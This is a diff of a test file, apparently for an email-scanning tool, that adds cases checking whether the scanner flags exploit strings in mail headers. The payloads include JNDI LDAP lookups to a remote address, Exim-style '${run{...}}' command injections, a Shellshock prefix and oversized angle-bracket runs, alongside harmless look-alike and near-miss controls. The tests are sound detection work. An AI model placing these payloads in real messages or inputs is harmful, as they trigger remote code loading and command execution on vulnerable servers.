@@ -121,6 +121,14 @@ for text in ('${run{/bin/sh -c id}}', '${jndi:ldap://198.51.100.9/a}', '() { :;}
     scene('exploit: in a header, refused, ' + text, each((HIM, header(text, '550 5.7.1 no'))), EXPLOIT % 'low')
     scene('exploit: look-alike, in a body, ' + text, each((HIM, body(text))), '?' + EXPLOIT % 'low')
 
+scene('exploit: angles in From', each((HIM, header('<>' * 25 + ' <a@partner.example>', name='From'))), EXPLOIT % 'low')
+for name in 'X-Api-Version', 'Received', 'X-Mailer', 'List-Unsubscribe', 'Comments', 'To', 'From', 'Reply-To':
+    scene('exploit: in the header field ' + name, each((HIM, header('${jndi:ldap://198.51.100.9/a} <a@partner.example>', name=name))), EXPLOIT % 'low',
+          '?lookalike_domain medium domain partner.example')
+scene('exploit: in a folded field', each((HIM, header('one\r\n two ${run{id}}', name='X-Note'))), EXPLOIT % 'low')
+scene('exploit: look-alike, a placeholder in a field', each((HIM, header('Dear ${name}, $(5) off', name='X-Note'))), silent=['exploit'])
+scene('exploit: near miss, 19 angles in From', each((HIM, header('<>' * 19 + ' <a@partner.example>', name='From'))), silent=['exploit'])
+
 # ---- nothing of the kind ----
 for address in ('decode@example.org', "o'hara;x@example.org", 'bounce$123=p@example.org', 'prvs=1234abcd=p@example.org', 'SRS0=HHH=TT=partner.example=a@example.org',
                 'user+tag@example.org', 'list-return-12-p=example.org@example.org', 'a$b@example.org', 'p&q@example.org', "d'arc@example.org",
